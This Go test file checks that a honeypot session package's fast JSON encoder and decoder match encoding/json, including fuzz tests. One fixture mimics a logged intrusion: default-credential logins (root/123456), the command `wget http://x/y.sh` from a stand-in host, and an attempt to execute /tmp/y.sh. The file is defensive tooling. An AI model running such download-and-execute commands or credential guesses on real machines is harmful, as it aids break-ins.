package session

import (
	"bytes"
	"encoding/json"
	"math/rand"
	"reflect"
	"testing"
	"time"
)

// jsonFastCases covers the encoder's canonical path and every fallback
// trigger: empty/full records, HTML-escaped and control characters,
// invalid UTF-8, U+2028/29, surrogate-needing runes, fractional-second
// and zoned times, and times RFC 3339 cannot represent.
func jsonFastCases() []*Record {
	t0 := time.Date(2021, 7, 3, 12, 30, 45, 0, time.UTC)
	return []*Record{
		{},
		{
			ID: 42, Start: t0, End: t0.Add(90 * time.Second),
			HoneypotID: "hp-1", HoneypotIP: "10.0.0.1",
			ClientIP: "203.0.113.9", ClientPort: 51234,
			Protocol: ProtoSSH, ClientVersion: "SSH-2.0-libssh2_1.4.3",
			Logins: []LoginAttempt{{Username: "root", Password: "123456"}, {Username: "root", Password: "toor", Success: true}},
			Commands: []Command{
				{Raw: "cat /proc/cpuinfo | grep name | wc -l", Known: true},
				{Raw: `echo "a<b>&c" && wget http://x/y.sh`, Known: false},
			},
			Downloads:     []Download{{URI: "http://x/y.sh", SourceIP: "198.51.100.7", Hash: "ab12", Size: 1337}},
			ExecAttempts:  []ExecAttempt{{Path: "/tmp/y.sh", FileExists: true, Hash: "ab12"}, {Path: "/tmp/z"}},
			StateChanged:  true,
			DroppedHashes: []string{"ab12", "cd34"},
			TimedOut:      true,
		},
		{ // escapes: quotes, backslashes, control chars, tabs, newlines
			Start: t0, End: t0, HoneypotID: "a\"b\\c", ClientIP: "x\n\r\t\x00\x1f",
			Protocol: ProtoTelnet,
			Commands: []Command{{Raw: "a\bb\fc"}},
		},
		{ // invalid UTF-8, U+2028/29, multibyte runes, astral plane
			Start: t0, End: t0, HoneypotID: "bad\xff\xfeutf8", ClientIP: "π≈3\u2028x\u2029y",
			Protocol: "ssh", ClientVersion: "emoji \U0001F600 done",
		},
		{ // fractional seconds and non-UTC zone
			Start: time.Date(2021, 7, 3, 12, 30, 45, 123456789, time.FixedZone("", 3600)),
			End:   time.Date(2021, 7, 3, 12, 30, 45, 1000, time.FixedZone("", -4*3600-1800)),
		},
		{ // times MarshalJSON rejects → whole-record fallback must agree
			Start: time.Date(-5, 1, 1, 0, 0, 0, 0, time.UTC),
			End:   t0,
		},
		{Start: time.Date(12345, 1, 1, 0, 0, 0, 0, time.UTC), End: t0},
		{Start: t0, End: t0.In(time.FixedZone("", 30))}, // sub-minute zone offset
		{ID: ^uint64(0), Start: t0, End: t0, ClientPort: -5},
		{Start: t0, End: t0, Downloads: []Download{{URI: "u", Size: -9223372036854775808}}},
	}
}

func TestAppendJSONMatchesStdlib(t *testing.T) {
	for i, r := range jsonFastCases() {
		want, wantErr := json.Marshal(r)
		got, gotErr := AppendJSON(nil, r)
		if (wantErr == nil) != (gotErr == nil) {
			t.Fatalf("case %d: error mismatch: stdlib=%v fast=%v", i, wantErr, gotErr)
		}
		if wantErr != nil {
			continue
		}
		if !bytes.Equal(got, want) {
			t.Errorf("case %d:\n got %s\nwant %s", i, got, want)
		}
	}
}

// TestWriterMatchesEncoder: Writer's JSONL bytes are json.Encoder's
// over every case, the fallback ones included, and a record neither can
// encode writes nothing.
func TestWriterMatchesEncoder(t *testing.T) {
	var got, want bytes.Buffer
	w, enc := NewWriter(&got), json.NewEncoder(&want)
	for i, r := range jsonFastCases() {
		gotErr, wantErr := w.Write(r), enc.Encode(r)
		if (gotErr == nil) != (wantErr == nil) {
			t.Fatalf("case %d: error mismatch: Writer=%v Encoder=%v", i, gotErr, wantErr)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got.Bytes(), want.Bytes()) {
		t.Errorf("Writer:\n%s\njson.Encoder:\n%s", got.Bytes(), want.Bytes())
	}
}

func TestAppendJSONAppends(t *testing.T) {
	r := jsonFastCases()[1]
	prefix := []byte("prefix")
	got, err := AppendJSON(prefix, r)
	if err != nil {
		t.Fatal(err)
	}
	want, _ := json.Marshal(r)
	if !bytes.Equal(got, append([]byte("prefix"), want...)) {
		t.Fatalf("AppendJSON did not append after prefix: %s", got)
	}
}

func TestDecodeJSONMatchesStdlib(t *testing.T) {
	var dec JSONDecoder
	for i, r := range jsonFastCases() {
		line, err := json.Marshal(r)
		if err != nil {
			continue
		}
		var want, got Record
		if err := json.Unmarshal(line, &want); err != nil {
			t.Fatalf("case %d: stdlib: %v", i, err)
		}
		if err := dec.Decode(line, &got); err != nil {
			t.Fatalf("case %d: fast: %v", i, err)
		}
		if !reflect.DeepEqual(&got, &want) {
			t.Errorf("case %d: decode mismatch\n got %+v\nwant %+v", i, got, want)
		}
	}
}

// TestDecodeJSONNonCanonical feeds the decoder inputs off the canonical
// path; the result must match json.Unmarshal exactly, errors included.
func TestDecodeJSONNonCanonical(t *testing.T) {
	cases := []string{
		`{}`,
		` {"id":1,"start":"2021-07-03T12:30:45Z","end":"2021-07-03T12:30:45Z","hp":"a","client_ip":"b","proto":"ssh"}`,
		`{"proto":"ssh","id":7}`,              // reordered
		`{"id":1e2}`,                          // float form for uint
		`{"id":null}`,                         // null
		`{"ID":3}`,                            // case-insensitive match
		`{"unknown_key":1}`,                   // unknown key
		`{"id":1,"id":2}`,                     // duplicate key
		`{"logins":[]}`,                       // empty array
		`{"logins":[{"ok":true,"user":"u"}]}`, // reordered subfields
		`{"cmds":[{"raw":"x","known":false},null]}`,         // null element
		`{"hashes":["a","b"] }`,                             // trailing space
		`{"client_port":"80"}`,                              // wrong type
		`{"start":"not-a-time"}`,                            // bad time
		`{"hp":"\ud83d\ude00 \ud800 \ud800\n \uzzzz"}` + ``, // surrogates incl. invalid
		`{"hp":"a\/b\u0041\u2028"}`,
		`truncated`,
		`{"id":1`,
		`{"hp":"unterminated`,
	}
	var dec JSONDecoder
	for i, in := range cases {
		var want, got Record
		wantErr := json.Unmarshal([]byte(in), &want)
		gotErr := dec.Decode([]byte(in), &got)
		if (wantErr == nil) != (gotErr == nil) {
			t.Fatalf("case %d %q: error mismatch: stdlib=%v fast=%v", i, in, wantErr, gotErr)
		}
		if wantErr == nil && !reflect.DeepEqual(&got, &want) {
			t.Errorf("case %d %q:\n got %+v\nwant %+v", i, in, got, want)
		}
	}
}

// TestTimeZMatchesStdlib: the decoder's direct read of the UTC spelling
// accepts what the encoder writes for every year it can write, and
// whatever it accepts is the time time.Time.UnmarshalJSON makes of it,
// to the bit; every other spelling it leaves to the stdlib.
func TestTimeZMatchesStdlib(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	lo := time.Date(0, 1, 1, 0, 0, 0, 0, time.UTC).Unix()
	hi := time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC).Unix()
	times := []time.Time{
		time.Date(0, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(0, 2, 29, 12, 0, 0, 1, time.UTC),
		time.Date(0, 3, 1, 0, 0, 0, 0, time.UTC), time.Date(1969, 12, 31, 23, 59, 59, 999999999, time.UTC),
		time.Date(1970, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(2000, 2, 29, 0, 0, 0, 0, time.UTC),
		time.Date(9999, 12, 31, 23, 59, 59, 999999999, time.UTC),
	}
	for i := 0; i < 20000; i++ {
		ns := rng.Int63n(1e9)
		ns -= ns % []int64{1, 1e3, 1e6, 1e9}[i%4]
		times = append(times, time.Unix(lo+rng.Int63n(hi-lo), ns).UTC())
	}
	var spellings []string
	for _, tm := range times {
		b, ok := appendTimeJSON(nil, tm)
		if !ok {
			t.Fatalf("encoder rejected %s", b)
		}
		if _, ok := timeZ(b[1 : len(b)-1]); !ok {
			t.Fatalf("timeZ rejected the encoder's %s", b)
		}
		spellings = append(spellings, string(b))
	}
	spellings = append(spellings,
		`"2024-02-29T23:59:59Z"`, `"2023-02-29T00:00:00Z"`, `"2021-02-30T00:00:00Z"`,
		`"2000-02-29T00:00:00Z"`, `"1900-02-29T00:00:00Z"`, `"0000-02-29T00:00:00Z"`,
		`"2021-04-31T00:00:00Z"`, `"2021-13-01T00:00:00Z"`, `"2021-00-01T00:00:00Z"`,
		`"2021-01-00T00:00:00Z"`, `"2021-01-01T24:00:00Z"`, `"2021-01-01T00:60:00Z"`,
		`"2021-01-01T00:00:60Z"`, `"2021-01-01T00:00:00.Z"`, `"2021-01-01T00:00:00.1234567891Z"`,
		`"2021-01-01T00:00:00,5Z"`, `"2021-01-01t00:00:00Z"`, `"2021-01-01T00:00:00z"`,
		`"2021-01-01T00:00:00+05:30"`, `"2021-01-01T00:00:00.5-00:00"`, `"10000-01-01T00:00:00Z"`,
		`"2021-1-01T00:00:00Z"`, `"2021-01-01T0:00:00Z"`, `"2021-01-01T00:00:0aZ"`,
		`"+021-01-01T00:00:00Z"`, `"2021-01-01T00:00:00.00000000Z"`, `"2021-01-01T00:00:00.-1Z"`)
	for _, s := range spellings {
		var want time.Time
		err := want.UnmarshalJSON([]byte(s))
		got, ok := timeZ([]byte(s[1 : len(s)-1]))
		if ok && (err != nil || got != want) {
			t.Fatalf("timeZ(%s) = %v, stdlib %v, %v", s, got, want, err)
		}
	}
}

// sameTime reports whether two times are the same instant in the same
// zone offset.
func sameTime(a, b time.Time) bool {
	return a.Equal(b) && a.Format(time.RFC3339Nano) == b.Format(time.RFC3339Nano)
}

// FuzzRecordJSON pins both directions against encoding/json: any input
// line must decode identically (including error presence), and decoded
// records must re-encode byte-identically.
func FuzzRecordJSON(f *testing.F) {
	for _, r := range jsonFastCases() {
		if line, err := json.Marshal(r); err == nil {
			f.Add(line)
		}
	}
	f.Add([]byte(`{"id":1,"hp":"\ud800\udc00","logins":[{"user":"\u0026","pass":"","ok":false}]}`))
	f.Add([]byte(`{"start":"2021-07-03T12:30:45.5+01:00","cmds":[{"raw":"a&&b","known":true}]}`))
	var dec JSONDecoder
	f.Fuzz(func(t *testing.T, line []byte) {
		var want, got Record
		wantErr := json.Unmarshal(line, &want)
		gotErr := dec.Decode(line, &got)
		if (wantErr == nil) != (gotErr == nil) {
			t.Fatalf("decode error mismatch: stdlib=%v fast=%v on %q", wantErr, gotErr, line)
		}
		if wantErr != nil {
			return
		}
		if !reflect.DeepEqual(&got, &want) {
			t.Fatalf("decode mismatch on %q:\n got %+v\nwant %+v", line, got, want)
		}
		// Round-trip: the decoded record must re-encode byte-identically.
		wantEnc, wantEncErr := json.Marshal(&want)
		gotEnc, gotEncErr := AppendJSON(nil, &got)
		if (wantEncErr == nil) != (gotEncErr == nil) {
			t.Fatalf("encode error mismatch: stdlib=%v fast=%v", wantEncErr, gotEncErr)
		}
		if wantEncErr == nil && !bytes.Equal(gotEnc, wantEnc) {
			t.Fatalf("encode mismatch:\n got %s\nwant %s", gotEnc, wantEnc)
		}
	})
}
